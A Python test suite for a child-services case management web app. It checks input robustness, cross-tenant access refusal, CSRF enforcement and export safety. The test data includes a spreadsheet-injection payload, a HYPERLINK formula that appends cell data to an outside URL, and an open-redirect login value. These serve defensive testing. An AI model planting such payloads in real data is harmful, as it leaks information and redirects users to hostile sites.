"""A second look at the staff pages: odd input is never a 500, other scopes see nothing, exports
are inert."""

from __future__ import annotations

import io
import re

from openpyxl import load_workbook
from sqlalchemy import Engine
from sqlmodel import select

from api.pages import admin, auth, cases, referrals, worklists
from core.db import session_scope
from models.audit import AuditLog
from models.users import User
from tests.test_journey import need_payload, to_ipr_implementation, to_need_determination
from tests.test_pages_auth import csrf_of, sign_in
from tests.test_pages_worklists import make_overdue
from tests.world import World


def test_case_forms_with_odd_dates_ids_and_long_text_are_never_a_500(world: World) -> None:
    case_id = to_ipr_implementation(world)
    nd = to_need_determination(world)
    c = world.client
    sign_in(c, "curator")
    page = c.get(f"/cases/{case_id}")
    token = csrf_of(page.text)
    version = re.search(r'name="version" value="(\d+)"', page.text)
    v = version.group(1) if version else "1"
    bad: list[object] = []

    def post(url: str, data: dict[str, str]) -> None:
        r = c.post(url, data={"csrf": token, **data}, follow_redirects=False)
        assert r.status_code < 500, (url, data)

    for day in ("0001-01-01", "9999-12-31", "0000-01-01", "99999-01-01", "2026-02-30"):
        post(
            f"/cases/{case_id}/contact-attempts",
            {"contact-date": day, "contact-time": "00:00", "contact-result": "yes"},
        )
        post(
            f"/cases/{case_id}/contact-attempts",
            {"contact-date": day, "contact-time": "23:59", "contact-result": "no"},
        )
        post(
            f"/cases/{case_id}/sessions",
            {"session-service": "code:x", "session-date": day, "session-time": "00:00"},
        )
        post(
            f"/cases/{case_id}/sessions",
            {"session-service": "planned:99999999999", "session-date": day, "session-time": "23:59"},
        )
        post(
            f"/cases/{nd}/events/determine_need",
            {"version": v, "determine_need-outcome": "ipr", "determine_need-concluded_on": day},
        )
        post(f"/cases/{case_id}/events/suspend", {"version": v, "suspend-reason": "x" * 100000})
    post(f"/cases/{case_id}/sessions/99999999999", {"attendance-99999999999-status": "held"})
    post(f"/cases/{case_id}/sessions/1", {"attendance-1-status": "zzz"})
    post(f"/cases/{case_id}/curator", {"version": "99999999999", "curator-curator_id": "99999999999"})
    post(f"/cases/{case_id}/curator", {"version": v, "curator-curator_id": "999999999"})
    post(f"/cases/{case_id}/events/zzz", {"version": v})
    post(f"/cases/{case_id}/events/accept", {"version": v, "accept-curator_id": "x"})
    post(
        f"/cases/{case_id}/contact-attempts",
        {
            "contact-date": "2026-11-30",
            "contact-time": "25:00",
            "contact-result": "yes",
            "contact-channel": "zzz",
        },
    )
    post(
        f"/cases/{case_id}/contact-attempts",
        {
            "contact-date": "2026-11-30",
            "contact-time": "10:00",
            "contact-result": "yes",
            "contact-note": "x" * 100000,
        },
    )
    post(
        f"/cases/{case_id}/sessions",
        {
            "session-service": "code:" + "x" * 10000,
            "session-date": "2026-12-01",
            "session-time": "10:00",
            "session-minutes": "0",
            "session-form": "zzz",
        },
    )
    for url in (
        "/search?q=%00",
        "/search?page=99999999999",
        "/search?q=a&page=999999999",
        "/search?snils=00000000000",
        "/referrals?page=0",
        "/referrals/abc",
        "/referrals/99999999999",
        "/cases/99999999999",
        "/cases/-1",
        f"/cases/{case_id}?done=" + "x" * 50,
        "/today?x=1",
    ):
        r = c.get(url)
        if r.status_code >= 500:
            bad.append((url, None, r.status_code, r.text[-300:]))
    assert not bad, bad


def test_admin_pages_with_superscript_digits_huge_ids_and_odd_csv_are_never_a_500(world: World) -> None:
    c = world.client
    sign_in(c, "admin")
    token = csrf_of(c.get("/admin/users/new").text)
    bad: list[object] = []
    for url in (
        "/admin/users?page=%C2%B2",
        "/admin/users?page=99999999999",
        "/admin/users?org=%C2%B2",
        "/admin/organisations/99999999999",
        "/admin/users/99999999999",
        "/admin/users/99999999999/edit",
        "/dashboard?org=99999999999",
        "/search?page=%C2%B2",
    ):
        r = c.get(url)
        if r.status_code >= 500:
            bad.append((url, r.status_code))
    for org in ("²", "99999999999", "0"):
        r = c.post(
            "/admin/users/new",
            data={
                "csrf": token,
                "login": "zz" + str(len(org)),
                "full_name": "Иванов Иван",
                "email": "a@b.ru",
                "role": "curator",
                "organisation_id": org,
            },
        )
        if r.status_code >= 500:
            bad.append(("new user", org, r.status_code))
    r = c.post(
        "/admin/users/new",
        data={
            "csrf": token,
            "login": "zz",
            "full_name": "Иванов Иван",
            "email": "a@b.ru",
            "role": "zzz",
            "organisation_id": "1",
        },
    )
    if r.status_code >= 500:
        bad.append(("role", r.status_code))
    for data in (b"\xff\xfe\x00a", "name;kind\n\u0000x;y".encode(), "имя".encode("cp1251"), b"", b"a" * 10):
        r = c.post(
            "/admin/organisations/import", data={"csrf": token}, files={"file": ("a.csv", data, "text/csv")}
        )
        if r.status_code >= 500:
            bad.append(("import", data[:10], r.status_code))
    assert not bad, bad


def test_other_providers_regions_and_roles_get_no_case_referral_or_admin_page(world: World) -> None:
    case_id = to_ipr_implementation(world)
    referral = world.refer()
    rid = referral["id"]
    c = world.client
    leaks = []
    for who in (
        "curator2",
        "coordinator2",
        "b_curator",
        "b_coordinator",
        "b_head",
        "b_rrmc",
        "analyst",
        "b_referrer",
        "b_admin",
    ):
        c.cookies.clear()
        sign_in(c, who)
        home = c.get("/", follow_redirects=True)
        token = csrf_of(home.text) if 'name="csrf"' in home.text else ""
        for url in (
            f"/cases/{case_id}",
            f"/referrals/{rid}",
            f"/referrals/{rid}/feedback.pdf",
            f"/admin/users/{world.user_ids['curator']}",
            f"/admin/organisations/{world.provider_id}",
            f"/admin/users/{world.user_ids['curator']}/edit",
        ):
            r = c.get(url)
            if r.status_code < 400:
                leaks.append((who, url, r.status_code))
        for url, data in (
            (
                f"/cases/{case_id}/contact-attempts",
                {"contact-date": "2026-11-30", "contact-time": "10:00", "contact-result": "yes"},
            ),
            (f"/cases/{case_id}/events/suspend", {"version": "99", "suspend-reason": "x"}),
            (f"/admin/users/{world.user_ids['curator']}/disable", {}),
            (f"/admin/users/{world.user_ids['curator']}/password", {}),
            (f"/admin/organisations/{world.provider_id}", {"name": "X"}),
        ):
            r = c.post(url, data={"csrf": token, **data}, follow_redirects=False)
            if r.status_code < 400:
                leaks.append((who, url, r.status_code))
    assert not leaks, leaks


def test_a_child_name_that_looks_like_a_formula_is_text_in_the_xlsx(world: World, engine: Engine) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"Открыть")'
    case_id = int(world.refer(child={"last_name": formula})["case_id"])
    world.advance(case_id, "accept", {"curator_id": world.user_ids["curator"]}, who="coordinator")
    make_overdue(engine, case_id)
    sign_in(world.client, "head")
    export = world.client.get("/dashboard/cases.xlsx?status=overdue")
    sheet = load_workbook(io.BytesIO(export.content)).active
    assert sheet is not None
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case_id)
    assert row[1].data_type == "s" and str(row[1].value).startswith(formula)


def test_superscript_digits_in_the_session_form_and_referral_form_are_refused_not_a_500(world: World) -> None:
    case_id = to_ipr_implementation(world)
    sign_in(world.client, "curator")
    token = csrf_of(world.client.get(f"/cases/{case_id}").text)
    planned = world.client.post(
        f"/cases/{case_id}/sessions",
        data={
            "csrf": token,
            "session-service": "planned:²",
            "session-date": "2026-12-02",
            "session-time": "10:00",
        },
    )
    assert planned.status_code == 422 and "Выберите услугу" in planned.text
    world.client.cookies.clear()
    sign_in(world.client, "referrer")
    token = csrf_of(world.client.get("/referrals/new").text)
    referred = world.client.post("/referrals/new", data={"csrf": token, "provider_id": "²"})
    assert referred.status_code == 422


def test_a_referral_to_another_regions_provider_or_a_non_provider_is_refused_by_both_forms(
    world: World,
) -> None:
    from tests.test_pages_referrals import form_data, hidden_fields

    sign_in(world.client, "referrer")
    csrf = csrf_of(world.client.get("/referrals/new").text)
    ok = world.client.post("/referrals/new", data=form_data(world, csrf))
    for org in ("b_provider", "health", "rrmc"):
        provider = str(world.org_ids[org])
        check = world.client.post("/referrals/new", data=form_data(world, csrf, provider_id=provider))
        assert check.status_code == 422
        fields = {**hidden_fields(ok.text), "provider_id": provider}
        sent = world.client.post("/referrals/new/confirm", data=fields, follow_redirects=False)
        assert sent.status_code == 422
    odd = {
        "child.birth_date": "0001-01-01",
        "referral_date": "99999-01-01",
        "consent_personal_data.date": "0000-01-01",
    }
    assert world.client.post("/referrals/new", data=form_data(world, csrf, **odd)).status_code == 422


def test_another_providers_case_page_is_a_404_with_a_refused_audit_row(world: World, engine: Engine) -> None:
    case_id = to_need_determination(world)
    sign_in(world.client, "curator2")
    assert world.client.get(f"/cases/{case_id}").status_code == 404
    with session_scope(engine) as session:
        rows = session.exec(select(AuditLog).where(AuditLog.action == "refused")).all()
    assert [(r.entity, r.entity_id, r.status, r.user_id) for r in rows] == [
        ("case", case_id, 404, world.user_ids["curator2"])
    ]


def test_every_page_post_without_the_csrf_token_is_refused_and_a_post_to_a_get_page_is_405(
    world: World,
) -> None:
    from fastapi.routing import APIRoute

    case_id = to_need_determination(world)
    ids = {
        "case_id": str(case_id),
        "event": "accept",
        "session_id": "1",
        "user_id": str(world.user_ids["curator"]),
        "org_id": str(world.provider_id),
        "referral_id": "1",
    }
    posts: list[str] = []
    gets: list[str] = []
    routes = [r for m in (admin, auth, cases, referrals, worklists) for r in m.router.routes]
    for route in routes:
        if not isinstance(route, APIRoute):
            continue
        path = route.path.format(**ids)
        (posts if "POST" in (route.methods or set()) else gets).append(path)
    assert len(posts) > 10
    for who in ("admin", "coordinator"):
        world.client.cookies.clear()
        sign_in(world.client, who)
        for path in posts:
            if path == "/login":
                continue
            answer = world.client.post(path, data={"version": "1"}, follow_redirects=False)
            assert answer.status_code in (403, 404), (who, path)
        for path in gets:
            if path not in posts:
                assert world.client.post(path, follow_redirects=False).status_code == 405, path


def test_an_admin_cannot_create_a_user_in_another_regions_organisation(world: World, engine: Engine) -> None:
    sign_in(world.client, "admin")
    token = csrf_of(world.client.get("/admin/users/new").text)
    answer = world.client.post(
        "/admin/users/new",
        data={
            "csrf": token,
            "login": "intruder",
            "full_name": "Иванов Иван Иванович",
            "email": "intruder@example.org",
            "role": "curator",
            "organisation_id": str(world.org_ids["b_provider"]),
        },
    )
    assert answer.status_code == 422
    with session_scope(engine) as session:
        assert session.exec(select(User).where(User.login == "intruder")).first() is None


def test_a_curator_of_another_provider_cannot_be_given_a_case_through_either_form(world: World) -> None:
    case_id = int(world.refer()["case_id"])
    sign_in(world.client, "coordinator")
    page = world.client.get(f"/cases/{case_id}").text
    token = csrf_of(page)
    version = re.search(r'name="version" value="(\d+)"', page)
    assert version is not None
    other = str(world.user_ids["curator2"])
    accept = world.client.post(
        f"/cases/{case_id}/events/accept",
        data={"csrf": token, "version": version.group(1), "accept-curator_id": other},
    )
    assert accept.status_code in (409, 422)
    assigned = world.client.post(
        f"/cases/{case_id}/curator",
        data={"csrf": token, "version": version.group(1), "curator-curator_id": other},
    )
    assert assigned.status_code in (409, 422)
    assert world.case(case_id, who="coordinator")["curator_id"] is None


def test_the_ipr_editor_with_odd_values_answers_422_never_a_500(world: World) -> None:
    case_id = to_need_determination(world)
    world.advance(case_id, "determine_need", need_payload("ipr", "Нужна ИПРП"), who="coordinator")
    sign_in(world.client, "curator")
    page = world.client.get(f"/cases/{case_id}").text
    token = csrf_of(page)
    version = re.search(r'name="version" value="(\d+)"', page)
    assert version is not None
    base = {"csrf": token, "version": version.group(1), "approve_ipr-goals": "Цель\r\n\r\n" + "ё" * 5000}
    odd_rows: list[dict[str, str]] = [
        {"approve_ipr-service-0": "zzz", "approve_ipr-count-0": "0", "approve_ipr-minutes-0": "999999999"},
        {"approve_ipr-service-0": "x" * 3000, "approve_ipr-role-0": "zzz", "approve_ipr-form-0": "zzz"},
        {"approve_ipr-count-3": "1", "approve_ipr-minutes-3": "²"},
    ]
    for dates in (("0001-01-01", "9999-12-31"), ("99999-01-01", "0000-01-01"), ("2026-12-31", "2026-01-01")):
        for row in odd_rows:
            data = {
                **base,
                **row,
                "approve_ipr-period_start": dates[0],
                "approve_ipr-period_end": dates[1],
                "approve_ipr-agreed": "yes",
                "approve_ipr-agreement_date": dates[1],
            }
            answer = world.client.post(f"/cases/{case_id}/events/approve_ipr", data=data)
            assert answer.status_code in (409, 422), (dates, row)


def test_login_dashboard_search_and_xlsx_with_odd_input_are_never_a_500(world: World) -> None:
    c = world.client
    for data in (
        {"login": "curator\x00", "password": "demo"},
        {"login": "x" * 100_000, "password": "y" * 100_000},
        {"login": "curator", "password": "demo", "next": "//example.org"},
        {},
    ):
        answer = c.post("/login", data=data, follow_redirects=False)
        assert answer.status_code < 500, data
        assert "example.org" not in answer.headers.get("location", "")
    assert c.get("/login?next=" + "x" * 600).status_code < 500
    sign_in(c, "rrmc")
    for url in (
        "/dashboard/cases?status=zzz",
        "/dashboard/cases?state=zzz",
        "/dashboard/cases?step=" + "x" * 100,
        "/dashboard/cases?step=zzz&curator=none&org=99999999999",
        "/dashboard/cases?page=99999999999",
        "/dashboard/cases?page=999999999",
        "/dashboard/cases.xlsx?status=soon&step=zzz&state=completed",
        "/dashboard/cases.xlsx?curator=%C2%B2",
        "/search?q=" + "я" * 201,
        "/search?q=%25%25&page=999999999",
        "/search?snils=123-456-789%2000",
        "/search?q=%20%20",
        "/referrals?page=999999999",
        "/stats?x=%00",
    ):
        assert c.get(url).status_code < 500, url


ODD_IDS = ("²", "١٢", "9" * 20, str(2**63), "-1", "", " ", "1.5", "x")


def test_inter_agency_forms_with_odd_ids_dates_and_text_are_never_a_500(world: World) -> None:
    """Issue 11's page forms (transfer, routing, consilium, team, agreement, enrolment) with Unicode
    digits, huge or empty ids and impossible dates: the form again or a 4xx, never a 500."""
    from tests.test_transfers import requested, to_ipr

    c = world.client
    case_id = to_ipr(world)
    sign_in(c, "coordinator")
    token = csrf_of(c.get(f"/cases/{case_id}").text)

    def post(url: str, data: dict[str, str]) -> None:
        answer = c.post(url, data={"csrf": token, **data}, follow_redirects=False)
        assert answer.status_code < 500, (url, data)

    for odd in ODD_IDS:
        post(
            f"/cases/{case_id}/transfers",
            {
                "transfer-to_provider_id": odd,
                "transfer-reason": "Переезд",
                "transfer-consent_date": "2026-01-01",
            },
        )
        post(
            f"/cases/{case_id}/routings",
            {"routing-target_org_id": odd, "routing-kind": "other", "routing-purpose": "x"},
        )
        post(
            f"/cases/{case_id}/consilia",
            {
                "consilium-date": "9999-12-31",
                "consilium-time": "23:59",
                "consilium-place": "x",
                "consilium-agenda": "x",
                "consilium-orgs": odd,
            },
        )
        post(f"/cases/{case_id}/team", {"team-user_id": odd, "team-specialist_role": "psychologist"})
    for day in ("0001-01-01", "9999-12-31", "0000-01-01", "99999-01-01", "2026-02-30", "²"):
        post(
            f"/cases/{case_id}/transfers",
            {
                "transfer-to_provider_id": str(world.org_ids["provider2"]),
                "transfer-reason": "x",
                "transfer-consent_date": day,
            },
        )
        post(
            f"/cases/{case_id}/consilia",
            {
                "consilium-date": day,
                "consilium-time": "10:00",
                "consilium-place": "x",
                "consilium-agenda": "x",
                "consilium-orgs": str(world.org_ids["health"]),
            },
        )
    transfer_id = requested(world, case_id)["id"]
    sign_in(c, "coordinator2")
    token = csrf_of(c.get(f"/transfers/{transfer_id}").text)
    for odd in ODD_IDS:
        post(f"/transfers/{transfer_id}/accept", {"accept-curator_id": odd})
    post(f"/transfers/{transfer_id}/refuse", {"refuse-reason": "x" * 100_000})
    post(f"/transfers/{transfer_id}/zzz", {})
    sign_in(c, "admin")
    token = csrf_of(c.get("/admin/agreements").text)
    for odd in ODD_IDS:
        post(
            "/admin/agreements",
            {"provider_id": odd, "partner_org_id": odd, "number": "1", "signed_on": "2026-01-01"},
        )
    for day in ("0001-01-01", "9999-12-31", "99999-01-01", "2026-02-30", "²"):
        post(
            "/admin/agreements",
            {
                "provider_id": str(world.org_ids["provider"]),
                "partner_org_id": str(world.org_ids["health"]),
                "number": "1",
                "signed_on": day,
                "valid_until": day,
            },
        )
